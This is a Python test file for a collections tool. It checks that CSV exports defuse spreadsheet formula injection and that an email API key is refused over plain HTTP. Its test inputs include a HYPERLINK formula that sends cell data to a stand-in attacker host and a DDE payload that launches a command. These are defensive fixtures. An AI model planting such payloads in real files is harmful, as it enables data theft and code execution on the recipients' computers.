"""The CSVs that leave the house (agency files, collectors' worklists) carry no formula:
ERP master data is third-party text, and a customer named "=HYPERLINK(...)" must reach the
agency's spreadsheet as text. Amounts stay numbers; the agency's JSON keeps the values."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

from actions import delivery
from core.settings import Settings

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
AS_OF = date(2026, 10, 30)


def read_csv(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_agency_file_neutralises_text_and_keeps_amounts(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path)
    row = {
        "action_id": "DA-1",
        "customer_id": "C1",
        "customer_name": HOSTILE_NAME,
        "street": " +49 Hauptstr.",
        "city": "\uff1dSUM(A1)",
        "open_amount": Decimal("-12.50"),
        "document_id": "RE-1",
    }
    delivery.write_agency_file(settings, "Inkasso AG", AS_OF, [row])
    base = delivery.outbox_path(settings, "agency", AS_OF, delivery.slug("Inkasso AG"))
    [written] = read_csv(base.with_suffix(".csv"))
    assert written["customer_name"] == "'" + HOSTILE_NAME
    assert written["street"] == "' +49 Hauptstr."
    assert written["city"] == "'\uff1dSUM(A1)"
    assert written["document_id"] == "RE-1"
    assert written["open_amount"] == "-12.50"
    [item] = json.loads(base.with_suffix(".json").read_text(encoding="utf-8"))["items"]
    assert item["customer_name"] == HOSTILE_NAME


def test_worklist_neutralises_text_and_keeps_amounts(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path)
    task = {
        "date": AS_OF.isoformat(),
        "collector": "Anna",
        "source": "dunning",
        "task": "phone_step",
        "priority": 1,
        "customer_id": "C1",
        "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "amount": Decimal("-30.00"),
        "currency": "EUR",
        "reason": "\n=2+5",
    }
    delivery.write_worklist(settings, "Anna", AS_OF, [task], mart_rows=[])
    path = next(settings.outbox("worklists").rglob("*.csv"))
    [written] = read_csv(path)
    assert written["customer_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert written["reason"] == "'\n=2+5"
    assert (written["amount"], written["priority"]) == ("-30.00", "1")
    # written again (the warehouse rows are read back from the file): nothing doubles
    delivery.write_worklist(settings, "Anna", AS_OF, [task])
    assert [r["customer_name"] for r in read_csv(path)] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_the_sendgrid_key_never_crosses_the_network_in_plain_http(tmp_path: Path) -> None:
    """https anywhere, plain http to this machine only (the tests' local server): the
    key goes in a header anyone on the path could read. Refused before any request, as a
    failure not to retry."""
    import pytest

    assert delivery.plain_http_problem("https://api.sendgrid.com") is None
    for local in ("http://127.0.0.1:8025", "http://localhost:8025", "http://[::1]:8025"):
        assert delivery.plain_http_problem(local) is None
    for remote in ("http://api.sendgrid.com", "http://10.0.0.7:8025", "ftp://x", "api.sendgrid"):
        assert "is not https" in delivery.plain_http_problem(remote)
    settings = Settings(
        home=tmp_path, sendgrid_api_key="SG.key", sendgrid_host="http://mail.example.com"
    )
    email = delivery.Email(
        action_id="DA-1",
        to_address="ap@customer.example",
        to_name="AP",
        from_address="mahnwesen@forderwerk.example",
        from_name="Forderwerk",
        reply_to=None,
        subject="Zahlungserinnerung",
        text_body="text",
        html_body="<p>html</p>",
    )
    with pytest.raises(delivery.DeliveryError, match="is not https") as refused:
        delivery.send_email(settings, email, AS_OF)
    assert refused.value.retryable is False
